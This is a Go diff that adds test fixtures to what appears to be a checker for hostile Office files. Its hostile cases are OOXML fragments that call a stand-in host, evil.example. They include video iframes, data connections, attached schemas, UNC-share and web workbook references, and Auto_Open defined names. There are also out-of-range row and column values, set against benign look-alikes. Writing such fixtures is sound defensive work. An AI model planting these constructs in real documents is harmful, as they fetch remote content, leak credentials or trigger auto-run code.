@@ -9,6 +9,8 @@ import (
 const (
 	officeExternal limits.Rule = "ooxml-external"
 
+	officeBounds limits.Rule = "ooxml-bounds"
+
 	relationshipTypes = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
 )
 
@@ -44,6 +46,26 @@ func fieldOf(runs ...string) string {
 	const before, after = `<w:r><w:instrText xml:space="preserve">`, `</w:instrText></w:r>`
 	return `<w:r><w:fldChar w:fldCharType="begin"/></w:r>` + before + strings.Join(runs, after+before) + after +
 		`<w:r><w:fldChar w:fldCharType="end"/></w:r>`
+}
+
+// connection returns a list with one connection.
+func connection(attributes string) string {
+	return `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="n" type="5" ` + attributes + `/></connections>`
+}
+
+// settings returns the settings of a text.
+func settings(content string) string {
+	return `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">` + content + `</w:settings>`
+}
+
+// cells returns a table with rows.
+func cells(rows string) string {
+	return `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>` + rows + `</sheetData></worksheet>`
+}
+
+// name returns a book with a defined name.
+func name(name string) string {
+	return `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames><definedName name="` + name + `" hidden="1">S!$A$1</definedName></definedNames></workbook>`
 }
 
 // hostileOffice has parts of office documents that fetch or run.
@@ -135,6 +157,44 @@ func hostileOffice() []recipe {
 		part(officeExternal, "action-file",
 			`<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" action="ppaction://hlinkfile"/>`),
 
+		part(officeExternal, "video", word(`<wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=&quot;http://evil.example/&quot;&gt;" h="1" w="1"/>`)),
+		part(officeExternal, "connection-file", connection(`odcFile="\\evil.example\x.odc"`)),
+		part(officeExternal, "connection-source", connection(`sourceFile="http://evil.example/x.mdb"`)),
+		part(officeExternal, "task-pane", `<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11"><wetp:taskpane dockstate="right" visibility="1"/></wetp:taskpanes>`),
+		part(officeExternal, "web-extension", `<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{1}"><we:reference id="wa1" version="1.0" store="en-US" storeType="OMEX"/></we:webextension>`),
+		part(officeExternal, "web-extension-in-drawing", word(`<we:webextensionref xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" xmlns:r="urn:r" r:id="rId1"/>`)),
+		part(officeExternal, "web-extension-part", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.microsoft.com/office/2011/relationships/webextension" Target="webextension1.xml"/></Relationships>`),
+		part(officeExternal, "task-panes-part", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes" Target="word/webextensions/taskpanes.xml"/></Relationships>`),
+		part(officeExternal, "web-extension-type", `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/webextensions/webextension1.xml" ContentType="application/vnd.ms-office.webextension+xml"/></Types>`),
+		part(officeExternal, "attached-schema", settings(`<w:attachedSchema w:val="http://evil.example/x.xsd"/>`)),
+		part(officeExternal, "attached-schema-share", settings(`<w:attachedSchema w:val="\\evil.example\x.xsd"/>`)),
+		part(officeExternal, "schema-library", settings(`<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema sl:uri="urn:x" sl:schemaLocation="http://evil.example/x.xsd"/></sl:schemaLibrary>`)),
+		part(officeExternal, "schema-manifest", settings(`<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema sl:uri="urn:x" sl:manifestLocation="\\evil.example\x"/></sl:schemaLibrary>`)),
+		part(officeExternal, "book-on-a-share", sheet(`'\\evil.example\s\[b.xlsx]S'!A1`)),
+		part(officeExternal, "book-on-the-web", sheet(`1+'https://evil.example/[b.xlsx]S'!A1`)),
+		part(officeExternal, "book-in-brackets", sheet(`[http://evil.example/b.xlsx]S!A1`)),
+		part(officeExternal, "book-after-quote", sheet(`'it''s'!A1+'\\evil.example\[b]S'!A1`)),
+		part(officeExternal, "book-in-a-name",
+			`<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames><definedName name="x">'\\evil.example\[b.xlsx]S'!$A$1</definedName></definedNames></workbook>`),
+
+		part(officeBounds, "row", cells(`<row r="1048577"/>`)),
+		part(officeBounds, "row-zero", cells(`<row r="0"/>`)),
+		part(officeBounds, "row-negative", cells(`<row r="-1"/>`)),
+		part(officeBounds, "row-huge", cells(`<row r="18446744073709551617"/>`)),
+		part(officeBounds, "row-of-cell", cells(`<row><c r="A1048577"/></row>`)),
+		part(officeBounds, "column-of-cell", cells(`<row r="1"><c r="XFE1"/></row>`)),
+		part(officeBounds, "long-column", cells(`<row r="1"><c r="AAAAAAAAAAAAAAAA1"/></row>`)),
+		part(officeBounds, "no-cell", cells(`<row r="1"><c r="1"/></row>`)),
+		part(officeBounds, "spans", cells(`<row r="1" spans="1:2147483647"/>`)),
+		part(officeBounds, "columns", `<worksheet><cols><col min="1" max="16385"/></cols></worksheet>`),
+		part(officeBounds, "dimension", `<worksheet><dimension ref="A1:XFE1048577"/></worksheet>`),
+		part(officeBounds, "merged", `<worksheet><mergeCells count="1"><mergeCell ref="A1:ZZZZ1"/></mergeCells></worksheet>`),
+		part(officeBounds, "shared-formula", cells(`<row><c><f t="shared" ref="A1:A2000000" si="0">1</f></c></row>`)),
+
+		part(active, "automatic-name", name("_xlnm.Auto_Open")),
+		part(active, "automatic-name-longer", name("_xlnm.Auto_Open12")),
+		part(active, "automatic-name-lower-case", name("_XLNM.auto_close")),
+		part(active, "automatic-name-activate", name("Auto_Activate")),
 		part(active, "macros", relationships("vbaProject", "vbaProject.bin", "")),
 		part(active, "control", relationships("control", "activeX/activeX1.xml", "")),
 		part(active, "content-type", `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`),
@@ -154,6 +214,14 @@ func benignOffice() []recipe {
 		part(officeExternal, "fields",
 			word(fieldOf(` PAGE `)+fieldOf(` HYPERLINK "https://example.org/" `)+fieldOf(` REF DDE `)+`<w:fldSimple w:instr=" DATE "/><w:r><w:t>DDEAUTO cmd</w:t></w:r>`)),
 		part(officeExternal, "formulas", sheet(`SUM(A1:A2)&amp;"WEBSERVICE(1) a|b"&amp;'it''s|x'!A1&amp;IMAGES(1)`)),
+		part(officeExternal, "books-by-number", sheet(`'[1]Sheet 1'!A1+[2]S!B2+SUM('Jan:Dec'!A1)+T[[#All],[price/unit]]+"\\server\x"`)),
+		part(officeExternal, "schema-without-place", settings(`<w:attachedSchema w:val="ActionsPane3"/><w:attachedSchema w:val="urn:schemas-example"/><sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema sl:uri="http://example.org/schema"/></sl:schemaLibrary>`)),
+		part(officeExternal, "local-connection", connection(`refreshedVersion="6"`)),
+		part(officeBounds, "last-cell", cells(`<row r="1048576" spans="1:16384"><c r="XFD1048576"><f t="shared" ref="A1:XFD1048576" si="0">A1</f></c><c/></row>`)),
+		part(officeBounds, "last-column", `<worksheet><dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384" width="9"/></cols><rowBreaks><brk id="1048575" max="16383"/></rowBreaks><mergeCells><mergeCell ref="A1:B2"/></mergeCells></worksheet>`),
+		part(officeBounds, "other-rows", word(`<w:row w:r="0"/><c r="" xmlns=""/>`)),
+		part(active, "names", name("Auto_Opening_Balance")),
+		part(active, "built-in-names", name("_xlnm.Print_Area")),
 		part(active, "slide-actions", `<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" action="ppaction://hlinkshowjump?jump=nextslide"/>`),
 	}
 }
